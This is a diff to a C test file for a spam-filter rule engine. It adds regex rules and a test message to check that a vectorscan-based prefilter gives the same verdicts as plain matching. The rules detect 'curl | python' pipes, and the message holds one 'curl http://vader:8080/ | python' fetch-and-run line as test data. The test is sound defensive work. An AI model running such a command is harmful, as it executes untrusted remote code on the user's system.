@@ -9,7 +9,8 @@
  * (back-references, lookaround), UTF-8 and byte-mode patterns, header
  * groups with negated rules, and the two cases vectorscan 5.4.9 gets
  * wrong (prefilter.c): texts over a hundred octets (its AVX-512 code
- * missed their end) and a DOTALL run before literals.  The stock SpamAssassin
+ * missed their end) and runs of wide classes before literals (DOTALL
+ * ".*", "[^<]*", "(?:.|\n)*"), and the rewriting's own old mistakes.  The stock SpamAssassin
  * rules, when installed, run against the same messages.  Also: the
  * background build, and a rule set freed while its build runs.
  */
@@ -93,6 +94,18 @@ static const char rules[] =
 	"full   F_DOTALL      /Subject:.*click/s\n"
 	"full   F_DOTALL_PIPE /curl.*\\|\\s*python/s\n"
 	"full   F_BOUNDARY    /boundary=\"?-{5,}=_/\n"
+	/* vectorscan 5.4.9 misses these runs too (pfpattern.c cuts them) */
+	"body   B_NEG_PIPE    /curl[^<]{0,60}\\|\\s*python/\n"
+	"body   B_NEG_PIPE2   /curl[^<]*\\|\\s*python/\n"
+	"body   B_ANY_GROUP   /curl(?:.|\\n)*\\|\\s*python/\n"
+	"body   B_ALT_RUNS    /\\bunsub\\w*\\b[^.]{0,60}\\bclick\\b|\\bclick\\s+here\\b[^.]{0,40}\\bremove\\b/i\n"
+	"uri    U_OPT_USER    /^https?:\\/\\/(?:[^\\/?#@]*@)?\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\//\n"
+	/* what the rewriting used to get wrong: comments, \\c, \\x{..},
+	 * Unicode properties (vectorscan's tables are older) */
+	"body   B_COMMENT_CLS /x(?#[)[]{12}]/\n"
+	"body   B_CTRL_BRACE  /\\c{12}/\n"
+	"body   B_HEX_BRACE   /x\\x{41}{12}y/\n"
+	"body   B_PROPERTY    /x\\p{L}y/\n"
 	"meta   M_BOTH        B_CLICK && H_SUBJ_FREE\n";
 
 static const char *const messages[] = {
@@ -148,6 +161,16 @@ static const char *const messages[] = {
 
 	/* Nearly empty. */
 	"Subject:\n\n",
+
+	/* What vectorscan 5.4.9 misses in a run of a negated class, and
+	 * what the rewriting missed (test_pfpattern.c). */
+	"Subject: runs\n"
+	"MIME-Version: 1.0\n"
+	"Content-Type: text/plain; charset=utf-8\n"
+	"Content-Transfer-Encoding: 8bit\n\n"
+	"run: curl http://vader:8080/ 2>&1 | python\n"
+	"To unsubscribe from this list click here. Or click here to be removed: remove\n"
+	"x1 ;12} xAAAAAAAAAAAAy x\xe1\xb2\x80y http://user@192.0.2.9/\n",
 };
 
 static void assert_same(struct ruleset *pf, struct ruleset *plain, const char *msg, size_t which)
@@ -226,6 +249,14 @@ static void test_same_verdicts(void **state)
 	assert_true(hit(pf, messages[4], "H_MSGID_SP", NULL));
 	assert_true(hit(pf, messages[4], "R_NEG_RUN", NULL));
 	assert_true(hit(pf, messages[5], "H_SUBJ_UNSET", NULL));
+	static const char *const runs[] = { "B_NEG_PIPE", "B_NEG_PIPE2",   "B_ANY_GROUP",
+					    "B_ALT_RUNS", "U_OPT_USER",    "B_COMMENT_CLS",
+					    "B_CTRL_BRACE", "B_HEX_BRACE", "B_PROPERTY" };
+	for (size_t i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
+		if (!hit(pf, messages[6], runs[i], NULL))
+			fprintf(stderr, "%s does not hit\n", runs[i]);
+		assert_true(hit(pf, messages[6], runs[i], NULL));
+	}
 	ruleset_free(&pf);
 	ruleset_free(&plain);
 	unlink(path);
